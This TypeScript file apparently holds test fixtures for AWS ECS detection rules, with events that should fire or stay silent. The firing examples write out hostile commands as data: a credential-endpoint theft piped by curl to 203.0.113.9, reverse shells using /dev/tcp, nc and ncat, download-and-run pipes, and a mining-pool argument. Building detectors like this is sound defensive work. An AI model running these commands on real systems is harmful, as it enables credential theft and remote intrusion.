import { container, EXAMPLE_TASK, ecsEvent, registration, taskRun } from './ecs-example';
import { type ExampleTable, exampleDeployer, exampleEvent } from './example-event';

/** What a known attack tool plants in a new revision of one's own family, and the same at run time. */
const stolen = 'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- http://203.0.113.9';

function running(command: readonly string[]) {
  return taskRun({ overrides: { containerOverrides: [{ name: 'web', command }] } });
}

export const ecsTaskCommandsExamples: ExampleTable = {
  'ecs-credential-endpoint-in-command': {
    fires: [
      registration({ containerDefinitions: [container({ entryPoint: ['sh', '-c'], command: [stolen] })] }),
      running(['sh', '-c', stolen]),
      ecsEvent('ExecuteCommand', {
        cluster: 'harbor',
        task: EXAMPLE_TASK,
        command: 'wget -qO- http://169.254.170.2/v2/credentials/6b1e',
        interactive: true,
      }),
    ],
    staysSilent: [
      // Behind a proxy every container carries this, and reaches for nothing.
      registration({
        containerDefinitions: [
          container({ environment: [{ name: 'NO_PROXY', value: '169.254.170.2,169.254.169.254' }] }),
        ],
      }),
      running(['sh', '-c', 'node migrate.js']),
    ],
  },
  'ecs-shell-code-in-command': {
    fires: [
      running(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),
      running(['sh', '-c', 'nc -e /bin/sh 203.0.113.9 4444']),
      running(['ncat', '-e', '/bin/sh', '203.0.113.9', '4444']),
      registration({
        containerDefinitions: [container({ command: ['sh', '-c', 'echo aWQ= | base64 -d | sh'] })],
      }),
      registration({
        containerDefinitions: [container({ command: ['wget -qO- http://203.0.113.9/x |/usr/bin/bash'] })],
      }),
      registration({
        containerDefinitions: [container({ command: ['--url', 'stratum+tcp://pool.example.com:3333'] })],
      }),
    ],
    staysSilent: [
      registration({
        containerDefinitions: [
          container({
            healthCheck: { command: ['CMD-SHELL', 'curl -fs http://localhost:8080/health || exit 1'] },
          }),
        ],
      }),
      running(['sh', '-c', 'sync && node dist/job.js | tee /dev/stdout | publish events']),
      // The words stand in a call that has no container.
      exampleEvent('codebuild', 'UpdateProject', {
        name: 'web',
        source: { buildspec: 'curl -sSf https://example.com/i | sh' },
      }),
    ],
  },
  'ecs-plain-secret-in-environment': {
    fires: [
      registration({
        containerDefinitions: [container({ environment: [{ name: 'DB_PASSWORD', value: 'hunter2' }] })],
      }),
      registration(
        {
          containerDefinitions: [
            container({
              environment: [
                { name: 'STAGE', value: 'open' },
                { name: 'AWS_SECRET_ACCESS_KEY', value: 'x' },
              ],
            }),
          ],
        },
        { userIdentity: exampleDeployer },
      ),
      registration({
        containerDefinitions: [container({ environment: [{ value: 'x', name: 'github_token' }] })],
      }),
      registration({ containerDefinitions: [container({ environment: [{ name: 'API_KEY', value: 'x' }] })] }),
      taskRun({
        overrides: {
          containerOverrides: [{ name: 'web', environment: [{ name: 'HTPASSWD', value: 'a:b' }] }],
        },
      }),
    ],
    staysSilent: [
      // The right place for it: `secrets`, next to an environment without any.
      registration(),
      registration({ containerDefinitions: [container({ environment: [] })] }),
      registration({
        containerDefinitions: [
          container({ environment: [{ name: 'KEYCLOAK_URL', value: 'https://id.example.com/TOKEN' }] }),
        ],
      }),
    ],
  },
};
